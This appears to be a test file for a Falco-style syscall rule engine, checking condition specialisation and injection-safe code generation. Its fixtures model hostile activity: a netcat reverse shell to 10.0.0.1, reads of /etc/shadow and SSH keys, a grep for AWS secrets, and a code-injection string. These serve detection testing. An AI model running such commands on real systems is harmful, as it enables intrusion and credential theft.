// Per-event-type specialisation of syscall conditions: evt.type checks fold to constants for the type the
// engine is evaluating, and the specialised condition decides exactly like the whole one.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parseCondition } from '../../src/engine/lang/parser.ts';
import { conditionToString } from '../../src/engine/lang/print.ts';
import { specializeForType } from '../../src/engine/lang/specialize.ts';
import { loadRules } from '../../src/engine/engine.ts';
import { syscallFields } from '../../src/engine/fields/syscall.ts';
import { k8sAuditFields } from '../../src/engine/fields/k8s_audit.ts';
import type { SyscallEvent } from '../../src/engine/event.ts';
import { container, exec, openFile, syscall } from '../../src/engine/testing/events.ts';
import { falcoPath } from '../support/falco-data.ts';

function spec(condition: string, type: string): string | boolean {
  const s = specializeForType(parseCondition(condition), type);
  return typeof s === 'boolean' ? s : conditionToString(s);
}

test('evt.type checks fold for the type at hand; the rest of the condition stays', () => {
  assert.equal(spec('evt.type = openat and fd.name = /etc/shadow', 'openat'), 'fd.name = /etc/shadow');
  assert.equal(spec('evt.type = openat and fd.name = /etc/shadow', 'execve'), false);
  assert.equal(spec('evt.type in (open, openat, openat2) and evt.is_open_read = true', 'openat2'), 'evt.is_open_read = true');
  assert.equal(spec('(evt.type = execve and proc.name = sh) or (evt.type = openat and fd.name = /x)', 'openat'), 'fd.name = /x');
  assert.equal(spec('evt.type != execve and proc.name = sh', 'execve'), false);
  assert.equal(spec('not evt.type in (execve, execveat) and proc.name = sh', 'openat'), 'proc.name = sh');
  assert.equal(spec('evt.type = openat', 'openat'), true);
  assert.equal(spec('syscall.type = connect or evt.type = accept', 'accept'), true);
});

test('evt.num = 0 (Falco\'s never_true) folds to false; other evt.num checks and evt.type operators stay', () => {
  assert.equal(spec('evt.type = openat and not (evt.num = 0)', 'openat'), true);
  assert.equal(spec('evt.type = openat and (evt.num = 0)', 'openat'), false);
  assert.equal(spec('evt.type = openat and evt.num > 5', 'openat'), 'evt.num > 5');
  assert.equal(spec('evt.type startswith open and proc.name = cat', 'openat'), '(evt.type startswith open and proc.name = cat)');
  assert.equal(spec('evt.type[0] = openat', 'openat'), 'evt.type[0] = openat');
});

test('falco_rules.yaml: every rule\'s per-type condition decides like its whole condition on a varied event set', () => {
  const { engine, errors } = loadRules([{ name: falcoPath('falco_rules.yaml') }], { tables: [syscallFields, k8sAuditFields], ruleMatching: 'all' });
  assert.deepEqual(errors, []);
  const web = container({ imageRepository: 'docker.io/library/nginx' });
  const events: SyscallEvent[] = [
    openFile('/etc/shadow', 0, { comm: 'cat' }),
    openFile('/etc/shadow', 0, { comm: 'sshd' }),
    openFile('/etc/../etc/../etc/passwd', 0, { comm: 'node' }),
    openFile('/root/.ssh/id_rsa', 0, { comm: 'python3' }, web),
    openFile('/bin/evil', 0o101, { comm: 'curl' }),
    openFile('/var/log/syslog', 0o1001, { comm: 'shred' }),
    exec({ comm: 'sh', args: ['-c', 'id'], ancestors: ['nginx', 'systemd'] }),
    exec({ comm: 'bash', args: [], tty: 34816, ancestors: ['runc'] }, web),
    exec({ comm: 'nc', args: ['-e', '/bin/sh', '10.0.0.1', '4444'] }, web),
    exec({ comm: 'grep', args: ['-r', 'aws_secret_access_key', '/'] }),
    exec({ comm: 'x', exepath: '/dev/shm/x', cwd: '/dev/shm/' }),
    exec({ comm: 'payload', exepath: 'memfd:payload', exeFromMemfd: true }),
    syscall({ type: 'connect', res: 0, thread: { comm: 'curl' }, fd: { num: 3, type: 'ipv4', name: '', cip: '10.0.0.5', cport: 40000, sip: '10.0.0.9', sport: 2222, l4proto: 'tcp' } }),
    syscall({ type: 'symlinkat', args: { target: '/etc/shadow', linkdirfd: -100, linkpath: '/tmp/s' } }),
    syscall({ type: 'linkat', args: { olddir: -100, oldpath: '/etc/shadow', newdir: -100, newpath: '/tmp/h', flags: 0 } }),
    syscall({ type: 'ptrace', args: { request: 'PTRACE_ATTACH', pid: 1 } }),
    syscall({ type: 'socket', res: 3, args: { domain: 'AF_PACKET', type: 3, proto: 0 } }, ),
  ];
  let compared = 0;
  for (const rule of engine.rules) {
    assert.ok(rule.forType, `${rule.name} has per-type conditions`);
    for (const e of events) {
      if (rule.eventTypes && !rule.eventTypes.has(e.type)) continue;
      const typed = rule.forType(e.type);
      assert.equal(typed === false ? false : typed(e), rule.matches(e), `${rule.name} on ${e.type} ${JSON.stringify(e.args)}`);
      compared++;
    }
  }
  assert.ok(compared > 50, `${compared} comparisons`);
  // The set is varied enough that rules fire: specialisation must agree on hits, not only on misses.
  const fired = new Set(events.flatMap((e) => engine.evaluate(e).map((r) => r.name)));
  assert.ok(fired.size >= 8, [...fired].join(', '));
});

test('inlined conditions keep constants out of the generated code: quotes, backticks and code in values are plain data', () => {
  const nasty = '"); globalThis.pwned = 1; (`${1}`';
  const rules = [
    '- rule: odd constant',
    '  desc: d',
    '  condition: >',
    `    evt.type = openat and (fd.name = '${nasty}' or proc.name in (a, "b c"))`,
    '  output: o',
    '  priority: INFO',
    '',
  ].join('\n');
  const { engine, errors } = loadRules([{ name: 'odd.yaml', content: rules }], { tables: [syscallFields, k8sAuditFields] });
  assert.deepEqual(errors, []);
  assert.deepEqual(engine.evaluate(openFile(nasty, 0)).map((r) => r.name), ['odd constant']);
  assert.deepEqual(engine.evaluate(openFile('/etc/x', 0, { comm: 'b c' })).map((r) => r.name), ['odd constant']);
  assert.deepEqual(engine.evaluate(openFile('/etc/x', 0)).map((r) => r.name), []);
  assert.equal((globalThis as { pwned?: number }).pwned, undefined);
});
